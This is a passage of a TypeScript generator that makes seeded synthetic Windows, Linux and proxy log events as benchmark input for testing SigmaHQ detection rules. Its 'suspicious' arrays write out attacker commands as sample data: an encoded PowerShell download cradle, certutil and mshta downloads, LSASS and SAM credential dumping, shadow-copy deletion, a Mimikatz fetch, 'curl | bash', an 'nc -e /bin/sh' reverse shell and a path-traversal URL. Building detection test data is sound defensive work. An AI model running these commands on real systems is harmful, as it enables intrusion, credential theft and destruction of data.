/**
 * Benchmark input for the SigmaHQ run: IT events of the logsources most
 * SigmaHQ rules are written for, in the ECS form Winlogbeat/Elastic Agent
 * (Sysmon, Security, System, PowerShell channels), Auditbeat (Linux process
 * starts) and Zeek (http.log as the web proxy) send them. Our parsers produce
 * none of these, so without them nearly every SigmaHQ rule would be skipped
 * by routing (detector/sigma/mapping/ecs.yaml) and the figure would measure
 * routing only.
 *
 * Mostly everyday activity (service hosts, browsers, updaters, engineering
 * tools) with a small share of attacker tradecraft (LOLBins, encoded
 * PowerShell, credential dumping, Run keys, curl | sh), so rules run on
 * realistic text and some fire. Seeded: the same events every run. Each
 * event is validated against the event schema, as the collector would.
 */
import { EcsEventSchema, type EcsEvent } from '../core/event.js';
import type { OrgRegistry, OrgStamp } from '../core/orgs.js';
import { Rng } from '../seeds/simulator/prng.js';

export const HostEventKinds = [
  'win-process', 'win-network', 'win-file', 'win-registry', 'win-image-load', 'win-dns',
  'win-security', 'win-system', 'win-powershell', 'linux-process', 'proxy',
] as const;
export type HostEventKind = (typeof HostEventKinds)[number];

/**
 * Share of each kind among host events: process starts, image loads, file
 * and registry writes dominate a Sysmon feed; proxy and Linux traffic come
 * from the same enterprises' IT side.
 */
export const HostEventMix: Readonly<Record<HostEventKind, number>> = {
  'win-process': 0.20, 'win-network': 0.10, 'win-file': 0.10, 'win-registry': 0.10, 'win-image-load': 0.10,
  'win-dns': 0.05, 'win-security': 0.07, 'win-system': 0.02, 'win-powershell': 0.04, 'linux-process': 0.12, 'proxy': 0.10,
};

/** Share of attacker tradecraft among the events of kinds that have any. */
const SUSPICIOUS = 0.03;

interface Proc {
  readonly image: string;
  readonly args: string;
  readonly parent: string;
  readonly parentArgs?: string;
  readonly pe?: { readonly original: string; readonly description: string; readonly product: string; readonly company: string };
  readonly user?: string;
}

const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';
const sys32 = (exe: string): string => `C:\\Windows\\System32\\${exe}`;
const pe = (original: string, description: string, product = WINDOWS, company = MS) => ({ original, description, product, company });

/** `{guid}`, `{n}`, `{user}`, `{host}`, `{tmp}` are filled per event. */
const BenignWindows: readonly Proc[] = [
  { image: sys32('svchost.exe'), args: '-k netsvcs -p -s Schedule', parent: sys32('services.exe'), pe: pe('svchost.exe', 'Host Process for Windows Services'), user: 'NT AUTHORITY\\SYSTEM' },
  { image: sys32('svchost.exe'), args: '-k LocalServiceNetworkRestricted -p -s EventLog', parent: sys32('services.exe'), pe: pe('svchost.exe', 'Host Process for Windows Services'), user: 'NT AUTHORITY\\LOCAL SERVICE' },
  { image: sys32('svchost.exe'), args: '-k UnistackSvcGroup -s CDPUserSvc_{n}', parent: sys32('services.exe'), pe: pe('svchost.exe', 'Host Process for Windows Services') },
  { image: sys32('conhost.exe'), args: '0xffffffff -ForceV1', parent: sys32('cmd.exe'), pe: pe('CONHOST.EXE', 'Console Window Host') },
  { image: sys32('RuntimeBroker.exe'), args: '-Embedding', parent: sys32('svchost.exe'), parentArgs: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', pe: pe('RuntimeBroker.exe', 'Runtime Broker') },
  { image: sys32('dllhost.exe'), args: '/Processid:{guid}', parent: sys32('svchost.exe'), parentArgs: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', pe: pe('dllhost.exe', 'COM Surrogate') },
  { image: sys32('wbem\\WmiPrvSE.exe'), args: '-secured -Embedding', parent: sys32('svchost.exe'), parentArgs: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', pe: pe('Wmiprvse.exe', 'WMI Provider Host'), user: 'NT AUTHORITY\\NETWORK SERVICE' },
  { image: sys32('taskhostw.exe'), args: 'Install $(Arg0)', parent: sys32('svchost.exe'), parentArgs: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', pe: pe('taskhostw.exe', 'Host Process for Windows Tasks') },
  { image: sys32('backgroundTaskHost.exe'), args: '-ServerName:BackgroundTaskHost.WebAccountProvider', parent: sys32('svchost.exe'), pe: pe('backgroundTaskHost.exe', 'Background Task Host') },
  { image: sys32('SearchProtocolHost.exe'), args: 'Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"', parent: sys32('SearchIndexer.exe'), pe: pe('SearchProtocolHost.exe', 'Microsoft Windows Search Protocol Host'), user: 'NT AUTHORITY\\SYSTEM' },
  { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', args: '--type=renderer --display-capture-permissions-policy-allowed --lang=zh-CN --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1', parent: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', pe: pe('chrome.exe', 'Google Chrome', 'Google Chrome', 'Google LLC') },
  { image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', args: '--type=utility --utility-sub-type=network.mojom.NetworkService --lang=zh-CN --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:3', parent: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', pe: pe('msedge.exe', 'Microsoft Edge', 'Microsoft Edge') },
  { image: 'C:\\Windows\\explorer.exe', args: '', parent: sys32('userinit.exe'), pe: pe('EXPLORER.EXE', 'Windows Explorer') },
  { image: sys32('cmd.exe'), args: '/c "C:\\ProgramData\\Historian\\scripts\\rotate-logs.bat"', parent: sys32('svchost.exe'), parentArgs: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', pe: pe('Cmd.Exe', 'Windows Command Processor') },
  { image: sys32('cmd.exe'), args: '/d /s /c "git rev-parse --abbrev-ref HEAD"', parent: 'C:\\Program Files\\nodejs\\node.exe', pe: pe('Cmd.Exe', 'Windows Command Processor') },
  { image: 'C:\\Program Files\\Git\\cmd\\git.exe', args: 'fetch --prune origin', parent: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', pe: pe('git.exe', 'Git for Windows', 'Git', 'The Git Development Community') },
  { image: 'C:\\Program Files\\Siemens\\Automation\\Portal V17\\Bin\\Siemens.Automation.Portal.exe', args: '-project "D:\\Projects\\Line{n}\\Line.ap17"', parent: 'C:\\Windows\\explorer.exe', pe: pe('Siemens.Automation.Portal.exe', 'TIA Portal', 'TIA Portal', 'Siemens AG') },
  { image: 'C:\\Program Files (x86)\\Wonderware\\InTouch\\view.exe', args: '"C:\\InTouch Applications\\Line{n}"', parent: 'C:\\Windows\\explorer.exe', pe: pe('view.exe', 'InTouch WindowViewer', 'InTouch', 'AVEVA Group plc') },
  { image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', args: '', parent: sys32('services.exe'), pe: pe('MsMpEng.exe', 'Antimalware Service Executable'), user: 'NT AUTHORITY\\SYSTEM' },
  { image: sys32('msiexec.exe'), args: '/V', parent: sys32('services.exe'), pe: pe('msiexec.exe', 'Windows® installer'), user: 'NT AUTHORITY\\SYSTEM' },
  { image: sys32('sc.exe'), args: 'query wuauserv', parent: sys32('cmd.exe'), pe: pe('sc.exe', 'Service Control Manager Configuration Tool') },
  { image: sys32('WindowsPowerShell\\v1.0\\powershell.exe', ), args: '-NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\Historian\\scripts\\backup-{n}.ps1"', parent: sys32('svchost.exe'), parentArgs: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', pe: pe('PowerShell.EXE', 'Windows PowerShell') },
  { image: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', args: '/background', parent: 'C:\\Windows\\explorer.exe', pe: pe('OneDrive.exe', 'Microsoft OneDrive', 'Microsoft OneDrive') },
  { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', args: '"D:\\Shift Reports\\report-{n}.xlsx"', parent: 'C:\\Windows\\explorer.exe', pe: pe('Excel.exe', 'Microsoft Excel', 'Microsoft Office') },
  { image: sys32('wermgr.exe'), args: '-upload', parent: sys32('svchost.exe'), pe: pe('wermgr.exe', 'Windows Problem Reporting') },
  { image: sys32('consent.exe'), args: '{n} 288 000001D2B{n}', parent: sys32('svchost.exe'), parentArgs: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Appinfo', pe: pe('consent.exe', 'Consent UI for administrative applications'), user: 'NT AUTHORITY\\SYSTEM' },
];

const SuspiciousWindows: readonly Proc[] = [
  { image: sys32('WindowsPowerShell\\v1.0\\powershell.exe'), args: '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', pe: pe('PowerShell.EXE', 'Windows PowerShell') },
  { image: sys32('certutil.exe'), args: '-urlcache -split -f http://203.0.113.50/a.exe C:\\Users\\Public\\a.exe', parent: sys32('cmd.exe'), pe: pe('CertUtil.exe', 'CertUtil.exe') },
  { image: sys32('vssadmin.exe'), args: 'delete shadows /all /quiet', parent: sys32('cmd.exe'), pe: pe('VSSADMIN.EXE', 'Command Line Interface for Microsoft® Volume Shadow Copy Service ') },
  { image: sys32('rundll32.exe'), args: 'C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full', parent: sys32('cmd.exe'), pe: pe('RUNDLL32.EXE', 'Windows host process (Rundll32)') },
  { image: sys32('reg.exe'), args: 'save HKLM\\SAM C:\\Users\\Public\\sam.hive', parent: sys32('cmd.exe'), pe: pe('reg.exe', 'Registry Console Tool') },
  { image: sys32('whoami.exe'), args: '/all', parent: sys32('cmd.exe'), pe: pe('whoami.exe', 'whoami - displays logged on user information') },
  { image: sys32('net.exe'), args: 'user backup P@ssw0rd! /add', parent: sys32('cmd.exe'), pe: pe('net.exe', 'Net Command') },
  { image: sys32('schtasks.exe'), args: '/create /sc minute /mo 5 /tn "Updater" /tr "C:\\Users\\Public\\upd.exe" /ru SYSTEM', parent: sys32('cmd.exe'), pe: pe('schtasks.exe', 'Task Scheduler Configuration Tool') },
  { image: sys32('mshta.exe'), args: 'http://203.0.113.50/payload.hta', parent: 'C:\\Windows\\explorer.exe', pe: pe('MSHTA.EXE', 'Microsoft (R) HTML Application host') },
  { image: sys32('bitsadmin.exe'), args: '/transfer job /download /priority high http://203.0.113.50/x.ps1 C:\\Users\\Public\\x.ps1', parent: sys32('cmd.exe'), pe: pe('bitsadmin.exe', 'BITS administration utility') },
  { image: sys32('wbem\\WMIC.exe'), args: 'shadowcopy delete', parent: sys32('cmd.exe'), pe: pe('wmic.exe', 'WMI Commandline Utility') },
  { image: 'C:\\Users\\Public\\procdump64.exe', args: '-accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp', parent: sys32('cmd.exe'), pe: pe('procdump', 'Sysinternals process dump utility', 'ProcDump', 'Sysinternals - www.sysinternals.com') },
  { image: sys32('netsh.exe'), args: 'advfirewall set allprofiles state off', parent: sys32('cmd.exe'), pe: pe('netsh.exe', 'Network Command Shell') },
  { image: sys32('cmd.exe'), args: '/c ping 127.0.0.1 -n 5 > nul & del /f /q "C:\\Users\\{user}\\Downloads\\invoice.exe"', parent: 'C:\\Users\\{user}\\Downloads\\invoice.exe', pe: pe('Cmd.Exe', 'Windows Command Processor') },
];

/** Fill the per-event parts of a template. */
function fill(text: string, rng: Rng, user: string): string {
  return text
    .replace(/\{guid\}/g, () => `{${rng.uuid().toUpperCase()}}`)
    .replace(/\{n\}/g, () => String(rng.int(1, 9999)))
    .replace(/\{user\}/g, user);
}

const quoted = (image: string): string => (image.includes(' ') ? `"${image}"` : image);
const baseName = (path: string): string => path.slice(Math.max(path.lastIndexOf('\\'), path.lastIndexOf('/')) + 1);

const BenignDlls = [
  'ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'combase.dll', 'rpcrt4.dll', 'ole32.dll', 'advapi32.dll', 'sechost.dll', 'bcrypt.dll',
  'crypt32.dll', 'ws2_32.dll', 'winhttp.dll', 'wininet.dll', 'uxtheme.dll', 'dwmapi.dll', 'msvcp_win.dll', 'ucrtbase.dll', 'clbcatq.dll',
].map(sys32);
const SuspiciousDlls = [sys32('dbghelp.dll'), sys32('vaultcli.dll'), 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.Automation\\System.Management.Automation.ni.dll', sys32('samlib.dll')];

const BenignFiles = [
  'C:\\Users\\{user}\\AppData\\Local\\Temp\\chrome_BITS_{n}\\chunk.tmp', 'C:\\Windows\\Prefetch\\SVCHOST.EXE-{n}.pf',
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\{n}.bin', 'C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{n}',
  'D:\\Historian\\Archive\\line{n}.dat', 'C:\\Windows\\SoftwareDistribution\\Download\\{n}\\update.cab', 'C:\\Users\\{user}\\Documents\\Shift Reports\\report-{n}.xlsx',
  'C:\\Windows\\Logs\\CBS\\CbsPersist_{n}.log', 'C:\\ProgramData\\Siemens\\Automation\\Logfiles\\Setup\\{n}.log',
];
const SuspiciousFiles = [
  'C:\\Windows\\Temp\\lsass.dmp', 'C:\\Users\\Public\\x.ps1', 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.lnk',
  'C:\\Windows\\System32\\Tasks\\Updater', 'C:\\Users\\Public\\sam.hive', 'C:\\PerfLogs\\a.exe',
];

const BenignKeys: readonly (readonly [string, string])[] = [
  ['HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-{n}-{n}-{n}-1001\\\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe', 'Binary Data'],
  ['HKU\\S-1-5-21-{n}-{n}-{n}-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.xlsx\\MRUListEx', 'Binary Data'],
  ['HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated', 'QWORD (0x01db{n}-0x{n})'],
  ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Publishers\\{guid}\\Enabled', 'DWORD (0x00000001)'],
  ['HKU\\S-1-5-21-{n}-{n}-{n}-1001\\Software\\Microsoft\\Office\\16.0\\Excel\\Resiliency\\DocumentRecovery\\{n}', 'Binary Data'],
  ['HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime', 'QWORD (0x01db{n}-0x{n})'],
];
const SuspiciousKeys: readonly (readonly [string, string])[] = [
  ['HKU\\S-1-5-21-{n}-{n}-{n}-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'C:\\Users\\Public\\upd.exe'],
  ['HKLM\\System\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin', 'DWORD (0x00000000)'],
  ['HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware', 'DWORD (0x00000001)'],
  ['HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', 'DWORD (0x00000001)'],
];

const BenignDomains = ['www.msftconnecttest.com', 'login.microsoftonline.com', 'settings-win.data.microsoft.com', 'update.googleapis.com', 'ctldl.windowsupdate.com', 'historian.plant.example', 'mes.plant.example', 'support.industry.siemens.com', 'time.windows.com'];
const SuspiciousDomains = ['raw.githubusercontent.com', 'pastebin.com', 'a1b2c3.ngrok-free.app', 'transfer.sh', 'api.telegram.org'];

const BenignScripts = [
  'function Get-HistorianBackupPath {\n  param([string]$Line)\n  $root = Join-Path $env:ProgramData "Historian\\Backup"\n  if (-not (Test-Path $root)) { New-Item -ItemType Directory -Path $root | Out-Null }\n  return Join-Path $root ("{0}-{1:yyyyMMdd}.zip" -f $Line, (Get-Date))\n}\n$paths = Get-ChildItem "D:\\Historian\\Archive" -Filter *.dat | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) }\nforeach ($p in $paths) { Compress-Archive -Path $p.FullName -DestinationPath (Get-HistorianBackupPath -Line $p.BaseName) -Update }',
  '$ErrorActionPreference = "Stop"\nImport-Module Microsoft.PowerShell.Management\n$svc = Get-Service -Name "wuauserv"\nif ($svc.Status -ne "Running") { Write-Output "Windows Update service is $($svc.Status)" }',
  '# Copyright (c) Microsoft Corporation. All rights reserved.\nfunction Get-NetAdapterSummary {\n  [CmdletBinding()] param()\n  Get-NetAdapter | Select-Object Name, InterfaceDescription, Status, LinkSpeed, MacAddress | Sort-Object Name\n}',
  'prompt',
  '{ Set-StrictMode -Version 1; $_.PSMessageDetails }',
  'Get-WinEvent -LogName Application -MaxEvents 50 | Where-Object { $_.LevelDisplayName -eq "Error" } | Format-Table TimeCreated, ProviderName, Id -AutoSize',
];
const SuspiciousScripts = [
  'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.50/Invoke-Mimikatz.ps1"); Invoke-Mimikatz -DumpCreds',
  '$s = [System.Convert]::FromBase64String($payload); [System.Reflection.Assembly]::Load($s); [Runner]::Main()',
  'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath "C:\\Users\\Public"',
  'Get-ADComputer -Filter * -Properties * | Select-Object Name, OperatingSystem, IPv4Address | Export-Csv C:\\Users\\Public\\c.csv',
];

const BenignLinux: readonly (readonly [string, string, string])[] = [
  ['/usr/bin/bash', '-c /usr/lib/sysstat/sa1 1 1', '/usr/sbin/cron'],
  ['/usr/bin/systemctl', 'is-active --quiet nginx', '/usr/bin/bash'],
  ['/usr/bin/python3', '/opt/historian/bin/collect.py --line {n}', '/usr/lib/systemd/systemd'],
  ['/usr/sbin/sshd', '-D -R', '/usr/sbin/sshd'],
  ['/usr/bin/git', 'pull --ff-only', '/usr/bin/bash'],
  ['/usr/bin/ls', '-la /var/log/historian', '/usr/bin/bash'],
  ['/usr/bin/grep', '-E "ERROR|WARN" /var/log/historian/collect.log', '/usr/bin/bash'],
  ['/usr/bin/docker', 'ps --format {{.Names}}', '/usr/bin/bash'],
  ['/usr/sbin/logrotate', '/etc/logrotate.conf', '/usr/bin/bash'],
  ['/usr/bin/curl', '-fsS http://127.0.0.1:8080/health', '/usr/bin/bash'],
];
const SuspiciousLinux: readonly (readonly [string, string, string])[] = [
  ['/usr/bin/curl', '-s http://203.0.113.50/i.sh | bash', '/usr/bin/bash'],
  ['/usr/bin/base64', '-d /tmp/.x', '/usr/bin/bash'],
  ['/usr/bin/chmod', '+x /tmp/.x/kworker', '/usr/bin/bash'],
  ['/usr/bin/nc', '-e /bin/sh 203.0.113.50 4444', '/usr/bin/bash'],
  ['/usr/bin/crontab', '-l', '/usr/bin/bash'],
  ['/usr/bin/cat', '/etc/shadow', '/usr/bin/bash'],
];

const BenignAgents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0',
  'Microsoft-CryptoAPI/10.0', 'Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71',
];
const SuspiciousAgents = ['python-requests/2.31.0', 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)', 'curl/8.4.0', 'Go-http-client/1.1'];
const BenignUrls = ['/windowsupdate/v6/selfupdate/wuident.cab', '/msdownload/update/v3/static/trustedr/en/disallowedcertstl.cab', '/api/v1/tags?line={n}', '/static/js/app.{n}.js', '/favicon.ico'];
const SuspiciousUrls = ['/payload.hta', '/a.exe', '/x.ps1?id={n}', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php'];

interface Host {
  readonly org: OrgStamp;
  readonly name: string;
  readonly ip: string;
  readonly user: string;
  readonly os: 'windows' | 'linux';
}

function hostsOf(registry: OrgRegistry): Host[] {
  const hosts: Host[] = [];
  registry.enterprises().forEach((org, i) => {
    const stamp = registry.stamp(org.id);
    if (!stamp) return;
    const net = 10 + (i % 28);
    const short = org.id.split('-').slice(1).join('-').toUpperCase();
    hosts.push(
      { org: stamp, name: `${short}-ENG-WS01`, ip: `10.${net}.20.11`, user: 'engineer', os: 'windows' },
      { org: stamp, name: `${short}-HMI02`, ip: `10.${net}.20.12`, user: 'operator', os: 'windows' },
      { org: stamp, name: `${short}-HIST01`, ip: `10.${net}.20.20`, user: 'svc_historian', os: 'windows' },
      { org: stamp, name: `${short.toLowerCase()}-app01`, ip: `10.${net}.30.10`, user: 'deploy', os: 'linux' },
    );
  });
  return hosts;
}

/** `count` host events, with times spread evenly over the hour from `start`, in time order. */
export function hostEvents(count: number, registry: OrgRegistry, start = '2026-11-25T00:00:00.000Z', seed = 9): { events: EcsEvent[]; kinds: HostEventKind[] } {
  const rng = new Rng(seed, 'bench:host-events');
  const hosts = hostsOf(registry);
  const windows = hosts.filter((h) => h.os === 'windows');
  const linux = hosts.filter((h) => h.os === 'linux');
  const mix = HostEventKinds.map((k) => [k, HostEventMix[k]] as const);
  const startMs = Date.parse(start);
  const events: EcsEvent[] = [];
  const kinds: HostEventKind[] = [];
  for (let i = 0; i < count; i++) {
    const kind = rng.weighted(mix);
    const time = new Date(startMs + Math.floor((i * 3_600_000) / count)).toISOString();
    const host = rng.pick(kind === 'linux-process' || kind === 'proxy' ? linux : windows);
    events.push(EcsEventSchema.parse(build(kind, host, time, rng)));
    kinds.push(kind);
  }
  return { events, kinds };
}

type Draft = Record<string, unknown>;

function build(kind: HostEventKind, host: Host, time: string, rng: Rng): Draft {
  const bad = rng.chance(SUSPICIOUS);
  const user = host.user;
  switch (kind) {
    case 'win-process': {
      const p = rng.pick(bad ? SuspiciousWindows : BenignWindows);
      const image = fill(p.image, rng, user);
      const parent = fill(p.parent, rng, user);
      const args = fill(p.args, rng, user);
      const commandLine = args ? `${quoted(image)} ${args}` : quoted(image);
      const parentCommandLine = p.parentArgs ?? quoted(parent);
      const account = p.user ?? `${host.name}\\${user}`;
      return sysmon(host, time, '1', 'process', ['start'], {
        process: {
          pid: rng.int(800, 30000), entity_id: `{${rng.uuid()}}`, executable: image, name: baseName(image), command_line: commandLine,
          working_directory: 'C:\\Windows\\system32\\',
          ...(p.pe ? { pe: { original_file_name: p.pe.original, description: p.pe.description, product: p.pe.product, company: p.pe.company, file_version: '10.0.19041.1 (WinBuild.160101.0800)' } } : {}),
          parent: { pid: rng.int(400, 30000), entity_id: `{${rng.uuid()}}`, executable: parent, name: baseName(parent), command_line: parentCommandLine },
          hash: { sha256: rng.hex(64), md5: rng.hex(32) },
        },
        user: { name: account.split('\\')[1], domain: account.split('\\')[0] },
      }, { IntegrityLevel: p.user ? 'System' : rng.pick(['Medium', 'High']), Hashes: `MD5=${rng.hex(32).toUpperCase()},SHA256=${rng.hex(64).toUpperCase()},IMPHASH=${rng.hex(32).toUpperCase()}`, LogonId: `0x${rng.hex(6)}`, TerminalSessionId: '1', ParentUser: account },
      `Process Create:\nImage: ${image}\nCommandLine: ${commandLine}\nUser: ${account}\nParentImage: ${parent}\nParentCommandLine: ${parentCommandLine}`);
    }
    case 'win-network': {
      const image = rng.pick(bad ? [sys32('rundll32.exe'), sys32('mshta.exe'), 'C:\\Users\\Public\\upd.exe'] : [sys32('svchost.exe'), 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Program Files (x86)\\Wonderware\\InTouch\\view.exe', 'C:\\Windows\\explorer.exe']);
      const domain = rng.pick(bad ? SuspiciousDomains : BenignDomains);
      const port = bad ? rng.pick([4444, 8080, 443]) : rng.pick([443, 80, 135, 445, 502, 102]);
      return sysmon(host, time, '3', 'network', ['connection', 'start'], {
        process: { pid: rng.int(800, 30000), executable: image, name: baseName(image) },
        source: { ip: host.ip, port: rng.ephemeralPort(), domain: host.name },
        destination: { ip: bad ? '203.0.113.50' : `10.${rng.int(10, 37)}.${rng.int(1, 30)}.${rng.int(2, 250)}`, port, domain },
        network: { transport: 'tcp', direction: 'egress', type: 'ipv4' },
        user: { name: user, domain: host.name },
      }, {}, `Network connection detected:\nImage: ${image}\nDestinationHostname: ${domain}\nDestinationPort: ${port}`);
    }
    case 'win-file': {
      const path = fill(rng.pick(bad ? SuspiciousFiles : BenignFiles), rng, user);
      const image = rng.pick([sys32('svchost.exe'), 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\explorer.exe', sys32('cmd.exe')]);
      return sysmon(host, time, '11', 'file', ['creation'], {
        process: { pid: rng.int(800, 30000), executable: image, name: baseName(image) },
        file: { path, name: baseName(path), directory: path.slice(0, path.lastIndexOf('\\')) },
        user: { name: user, domain: host.name },
      }, {}, `File created:\nImage: ${image}\nTargetFilename: ${path}`);
    }
    case 'win-registry': {
      const [key, details] = rng.pick(bad ? SuspiciousKeys : BenignKeys);
      const path = fill(key, rng, user);
      const image = rng.pick(bad ? [sys32('reg.exe'), 'C:\\Users\\Public\\upd.exe'] : [sys32('svchost.exe'), 'C:\\Windows\\explorer.exe', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe']);
      return sysmon(host, time, '13', 'registry', ['change'], {
        process: { pid: rng.int(800, 30000), executable: image, name: baseName(image) },
        registry: { path, key: path.slice(path.indexOf('\\') + 1), value: baseName(path) },
        user: { name: user, domain: host.name },
      }, { EventType: 'SetValue', Details: fill(details, rng, user) }, `Registry value set:\nImage: ${image}\nTargetObject: ${path}`);
    }
    case 'win-image-load': {
      const dll = rng.pick(bad ? SuspiciousDlls : BenignDlls);
      const image = rng.pick(bad ? [sys32('rundll32.exe'), 'C:\\Users\\Public\\procdump64.exe', sys32('WindowsPowerShell\\v1.0\\powershell.exe')] : BenignWindows.map((p) => p.image)).replace('{user}', user);
      return sysmon(host, time, '7', 'library', ['start'], {
        process: { pid: rng.int(800, 30000), executable: image, name: baseName(image) },
        file: { path: dll, name: baseName(dll), code_signature: { signed: true, status: 'Valid', subject_name: 'Microsoft Windows' }, pe: { original_file_name: baseName(dll).toUpperCase(), description: 'Windows library', product: WINDOWS, company: MS } },
        user: { name: user, domain: host.name },
      }, { Hashes: `SHA256=${rng.hex(64).toUpperCase()}` }, `Image loaded:\nImage: ${image}\nImageLoaded: ${dll}`);
    }
    case 'win-dns': {
      const name = rng.pick(bad ? SuspiciousDomains : BenignDomains);
      const image = rng.pick(bad ? [sys32('WindowsPowerShell\\v1.0\\powershell.exe'), sys32('rundll32.exe')] : [sys32('svchost.exe'), 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe']);
      return sysmon(host, time, '22', 'network', ['protocol', 'info'], {
        process: { pid: rng.int(800, 30000), executable: image, name: baseName(image) },
        dns: { question: { name, type: 'A', class: 'IN' } },
        network: { protocol: 'dns' },
        user: { name: user, domain: host.name },
      }, { QueryStatus: '0', QueryResults: `::ffff:${rng.int(1, 223)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)};` }, `Dns query:\nImage: ${image}\nQueryName: ${name}`);
    }
    case 'win-security': {
      const code = rng.weighted([['4624', 5], ['4634', 3], ['4672', 2], ['4625', bad ? 6 : 1], ['5145', 1], ['4663', 1]] as const);
      const data: Record<string, string> = {
        '4624': { TargetUserName: user, TargetDomainName: host.name, LogonType: rng.pick(['2', '3', '5', '10']), LogonProcessName: 'User32', AuthenticationPackageName: 'Negotiate', WorkstationName: host.name, ProcessName: sys32('svchost.exe') },
        '4634': { TargetUserName: user, TargetDomainName: host.name, LogonType: '3' },
        '4672': { SubjectUserName: user, SubjectDomainName: host.name, PrivilegeList: 'SeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege' },
        '4625': { TargetUserName: bad ? 'administrator' : user, TargetDomainName: host.name, LogonType: '3', Status: '0xc000006d', SubStatus: '0xc000006a', FailureReason: '%%2313' },
        '5145': { ShareName: '\\\\*\\IPC$', RelativeTargetName: rng.pick(['srvsvc', 'lsarpc', 'winreg']), AccessMask: '0x3', ObjectType: 'File' },
        '4663': { ObjectType: 'File', ObjectName: 'D:\\Historian\\Archive\\line.dat', AccessMask: '0x1', ProcessName: 'C:\\Program Files (x86)\\Wonderware\\InTouch\\view.exe' },
      }[code] ?? {};
      return windowsEvent(host, time, code, 'Security', 'Microsoft-Windows-Security-Auditing', code === '4624' || code === '4625' || code === '4634' ? ['authentication'] : ['iam'], ['info'], {
        ...(code === '4624' || code === '4625' ? { source: { ip: `10.${rng.int(10, 37)}.20.${rng.int(2, 250)}`, port: rng.ephemeralPort() } } : {}),
        user: { name: user, domain: host.name },
      }, data, `An account event occurred (${code}).`);
    }
    case 'win-system': {
      const service = bad ? { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' } : rng.pick([{ ServiceName: 'Google Update Service (gupdate)', ImagePath: '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc' }, { ServiceName: 'Historian Collector', ImagePath: '"C:\\Program Files\\Historian\\collector.exe" --service' }]);
      const code = bad ? '7045' : rng.pick(['7036', '7040', '7045']);
